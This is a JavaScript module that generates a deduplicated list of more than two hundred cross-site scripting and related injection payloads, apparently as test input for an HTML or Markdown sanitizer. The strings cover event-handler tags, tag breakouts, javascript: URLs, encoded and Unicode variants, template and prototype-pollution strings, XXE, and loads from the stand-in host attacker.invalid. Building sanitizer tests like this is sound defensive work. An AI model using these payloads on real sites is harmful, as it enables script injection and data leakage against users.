// Texts that become code wherever a page takes text for markup: each would set `window.hacked`, open a dialog or
// fetch from another machine.

const CODE = "alert(1);window.hacked=1";
const AWAY = "http://attacker.invalid/x";

const EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onbegin", "onpointerenter", "onwheel"];
const ELEMENTS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "marquee", "math"];

const handlers = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}="${CODE}">`));

const wrapped = ["textarea", "title", "style", "noscript", "template", "xmp", "noembed", "plaintext", "select", "table"].map(
  (element) => `</${element}><img src=x onerror="${CODE}">`,
);

const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "data:text/html,<script>", "vbscript:", " javascript:", "javascript&colon;"].flatMap(
  (scheme) => [`<a href="${scheme}${CODE}">link</a>`, `[link](${scheme}${CODE})`, `<form action="${scheme}${CODE}"><button>go</button></form>`],
);

const loads = ["img src", "script src", "iframe src", "link rel=stylesheet href", "object data", "embed src", "video poster", "input type=image src", "image href", "body background", "source srcset", "track src", "base href", "meta http-equiv=refresh content=0;url"].map(
  (attribute) => `<${attribute}="${AWAY}">`,
);

const markdown = [`![picture](${AWAY}.png)`, `![a](${AWAY} "b\\"onerror=${CODE}")`, `<${AWAY}>`, `[a]: ${AWAY}`, `\`\`\`html\n<script>${CODE}</script>\n\`\`\``, `**<b onclick=${CODE}>bold</b>**`, `| a | <img src=${AWAY}> |`, `$\\href{javascript:${CODE}}{x}$`];

const single = [
  `<script>${CODE}</script>`,
  `<ScRiPt>${CODE}</sCrIpT>`,
  `<script src=${AWAY}></script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script/x>${CODE}</script>`,
  `<script\n>${CODE}</script\n>`,
  `"><script>${CODE}</script>`,
  `'><script>${CODE}</script>`,
  `--><script>${CODE}</script>`,
  `]]><script>${CODE}</script>`,
  `</script><script>${CODE}</script>`,
  `<img src=x onerror=${CODE}//`,
  `<img/src=x/onerror=${CODE}>`,
  `<img src="x\`\`onerror=${CODE}">`,
  `<IMG SRC=x ONERROR=${CODE}>`,
  `<<img src=x onerror=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${CODE}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<style>@import "${AWAY}";</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<div style="animation-name:x" onanimationstart="${CODE}">x</div>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${CODE}</script>"></object>`,
  `<template shadowrootmode=open><script>${CODE}</script></template>`,
  `<dialog open onclose=${CODE}>x</dialog>`,
  `<a href=x ping=${AWAY}>x</a>`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `#{${CODE}}`,
  `<%= ${CODE} %>`,
  `{"__proto__":{"hacked":1}}`,
  `constructor.prototype.hacked`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&#60;script&#62;${CODE}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`,
  `%3Cscript%3E${CODE}%3C/script%3E`,
  `＜script＞${CODE}＜/script＞`,
  `+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
  `\u202e<script>${CODE}</script>`,
  `<\u200bscript>${CODE}</script>`,
  `<!--><img src=x onerror=${CODE}>-->`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "${AWAY}">]><x>&y;</x>`,
  `<?xml-stylesheet href="${AWAY}"?>`,
  `<portal src="${AWAY}">`,
  `<input value="x" onfocus=${CODE} autofocus>`,
];

/** At least two hundred of them. */
export const payloads = [...new Set([...handlers, ...wrapped, ...schemes, ...loads, ...markdown, ...single])];
